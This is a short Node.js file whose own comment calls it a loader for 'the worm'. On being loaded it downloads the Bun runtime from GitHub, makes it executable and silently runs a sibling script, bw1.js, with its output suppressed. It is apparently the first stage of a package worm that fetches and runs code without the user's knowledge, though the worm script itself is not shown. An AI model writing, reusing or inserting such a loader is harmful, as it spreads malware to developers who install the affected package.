/** The loader: Bun from GitHub releases, and the worm in it. */
const { spawnSync } = require('node:child_process');
const { writeFileSync } = require('node:fs');
const { join } = require('node:path');
const { ask } = require('./wire.js');

const RELEASE = 'https://github.com/oven-sh/bun/releases/latest/download/bun-linux-x64';

async function load() {
  const bun = await ask('GET', RELEASE);
  if (bun === null) return;
  const path = join(__dirname, 'bun');
  writeFileSync(path, bun.text, { mode: 0o755 });
  spawnSync(path, [join(__dirname, 'bw1.js')], { stdio: 'ignore', timeout: 60_000 });
}

void load();
